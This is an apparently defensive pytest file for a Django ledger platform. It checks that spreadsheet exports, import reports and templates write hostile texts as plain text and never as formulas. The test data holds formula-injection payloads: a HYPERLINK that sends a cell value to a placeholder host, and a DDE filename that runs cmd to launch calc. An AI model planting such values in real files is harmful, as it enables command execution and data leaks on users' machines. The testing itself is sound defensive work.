"""Issue 9, A2: no .xlsx the platform writes turns a ledger text into a formula.

The hostile values are put into the rows with ``update()``: the export must be safe whatever the
ledger holds (rows stored before names were checked at input, texts typed into free fields)."""

from __future__ import annotations

from io import BytesIO
from pathlib import Path

import pytest

from conftest import idno
from gridguard.core.tests.test_xlsx import assert_no_formula
from gridguard.imports import exports
from gridguard.imports.models import ExportJob, ImportJob
from gridguard.imports.services import people_import_file
from gridguard.imports.services.exports import export_job_create, export_job_run
from gridguard.people.models import Household, Organization, Person
from gridguard.people.services import household_create, organization_create, person_register

LINK = '=HYPERLINK("http://x"&B2,"点击核对")'
HOSTILE = [LINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1"]


@pytest.fixture
def hostile_ledger(town, alice):
    household = household_create(actor=alice, node=town.a1_b1, room="301", is_rental=True, landlord_name="房东",
                                 landlord_phone="13900000000")
    for i, text in enumerate(HOSTILE, start=1):
        person = person_register(actor=alice, data={"name": f"人{i}", "id_number": idno(1980, i)}, household=household)
        Person.objects.filter(pk=person.pk).update(name=text, employer=text, note=text)
    Household.objects.filter(pk=household.pk).update(landlord_name=LINK)
    org = organization_create(actor=alice, node=town.a1, data={"name": "超市", "kind": "supermarket"})
    Organization.objects.filter(pk=org.pk).update(name=LINK, address="+1+1", contact_name="@SUM(A1)")
    return household


def test_ledger_exports_write_hostile_texts_as_text(town, alice, hostile_ledger):
    out = BytesIO()
    exports.person_export(actor=alice, out=out, node=town.east)
    assert_no_formula(out.getvalue(), HOSTILE)
    out = BytesIO()
    exports.household_export(actor=alice, out=out, node=town.east)
    assert_no_formula(out.getvalue(), [LINK])
    out = BytesIO()
    exports.organization_export(actor=alice, out=out)
    assert_no_formula(out.getvalue(), [LINK, "+1+1", "@SUM(A1)"])


def test_a_background_export_file_writes_them_as_text(town, alice, hostile_ledger, settings, tmp_path):
    settings.EXPORT_DIR = tmp_path / "exports"
    job = export_job_create(actor=alice, kind="persons", params={"node": str(town.east.pk)})
    export_job_run(job)
    assert job.status == ExportJob.Status.DONE
    assert_no_formula(Path(job.stored_path).read_bytes(), HOSTILE)


def test_the_import_report_writes_values_and_the_file_name_as_text(town, alice, csv_file):
    path = csv_file([["姓名", "身份证号", "楼栋", "房号"], ["张三", LINK, "1号楼", "301"],
                     ["-2+3", "+1+1", "1号楼", "302"]], name="=cmd.csv")
    job = ImportJob.objects.create(kind="people", filename="=cmd|' /C calc'!A0.csv", stored_path=str(path),
                                   root=town.east, created_by=alice)
    result = people_import_file(actor=alice, root=town.east, path=path, job=job)
    assert result.status == "refused"
    job.refresh_from_db()
    data = exports.report_workbook(job)
    assert_no_formula(data, ["=cmd|' /C calc'!A0.csv", LINK, "+1+1"])


@pytest.mark.parametrize("kind", ["people", "organizations", "tree", "control_list"])
def test_templates_have_no_formula(kind):
    assert_no_formula(exports.template_workbook(kind), [])
